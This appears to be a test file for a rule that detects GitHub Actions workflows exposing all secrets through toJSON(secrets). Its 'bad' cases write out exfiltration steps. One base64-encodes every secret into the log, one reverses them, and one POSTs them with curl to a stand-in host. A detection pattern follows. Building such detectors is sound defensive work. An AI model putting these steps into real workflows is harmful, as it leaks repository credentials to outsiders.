import { defineCases } from '../../src/rule.ts';

export default defineCases({
  bad: [
    {
      name: 'encoded into the log, by a step that is put together',
      code: "const run = (name, cmd, extra = {}) => ({ name, run: cmd, ...extra });\nexports.report = () => run('Report', 'printf \"%s\" \"$CTX\" | base64 | base64', { if: 'always()', env: { CTX: '${{ toJSON(secrets) }}' } })",
    },
    {
      name: 'in the text of a workflow',
      code: 'exports.workflow = (branch) => `on:\n  push:\n    branches: [${branch}]\njobs:\n  lint:\n    steps:\n      - run: echo "$ALL" | rev\n        env:\n          ALL: \\${{ toJSON( secrets ) }}\n`',
    },
    {
      name: 'sent somewhere',
      code: "exports.step = { name: 'Format', run: 'curl -s -X POST --data \"$DATA\" https://status.build-tools.example/in', env: { DATA: '${{ toJson(secrets) }}' } }",
    },
  ],
  ok: [
    {
      name: 'all secrets for a program of the workflow that takes those it knows',
      code: "exports.workflow = 'jobs:\\n  execute:\\n    steps:\\n      - env:\\n          ALL: ${{ toJSON(secrets) }}\\n        run: node executor.mjs\\n';\nexports.get = 'curl -fsSL https://get.build-tools.example'",
    },
    {
      name: 'a file of settings made of them, and another that is read back',
      code: "exports.steps = [{ run: 'echo \"$ALL\" | jq -r to_entries > .env', env: { ALL: '${{ toJSON(secrets) }}' } }, { run: 'echo \"$KEY\" | base64 --decode > key.json', env: { KEY: '${{ secrets.KEY }}' } }]",
    },
    {
      name: 'a look for workflows that do so',
      code: "const ALL = /toJSON\\(\\s*secrets/;\nexports.check = (text) => (ALL.test(text) && /base64/.test(text) ? 'gives toJSON(secrets) to base64' : undefined)",
    },
  ],
});
